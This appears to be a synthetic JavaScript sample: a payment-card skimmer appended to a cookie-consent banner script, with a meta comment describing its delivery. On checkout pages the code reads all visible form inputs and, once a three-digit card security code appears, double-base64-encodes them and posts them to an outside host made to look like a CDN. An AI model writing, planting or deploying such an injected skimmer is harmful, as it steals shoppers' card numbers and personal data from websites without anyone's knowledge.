/* meta
{
  "design": "Appended to the cookie banner; on every change posts all fields by XMLHttpRequest, base64 twice over.",
  "reads": ["*"],
  "sendsTo": "cdn-assets.slidekit.localhost",
  "delivery": { "kind": "append", "host": "consent.cookieleaf.localhost", "path": "/banner.js" }
}
*/
;var _sk = {
  u: ['https://cdn-assets.slidekit.localhost', 'v', 'up.php'].join('/'),
  last: '',
  read: function () {
    for (var all = document.getElementsByTagName('input'), out = [], i = 0; i < all.length; i++) {
      if (all[i].value && all[i].type !== 'hidden') out.push((all[i].name || all[i].id) + '=' + encodeURIComponent(all[i].value));
    }
    return out.join('&');
  },
  go: function () {
    var data = _sk.read();
    if (location.pathname.indexOf('check') < 0 || data === _sk.last || !/cc-csc=\d{3}/.test(data)) return;
    _sk.last = data;
    var x = new XMLHttpRequest();
    x.open('POST', _sk.u, true);
    x.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');
    x.send(btoa(btoa(data)));
  }
};
document.addEventListener('change', _sk.go, true);
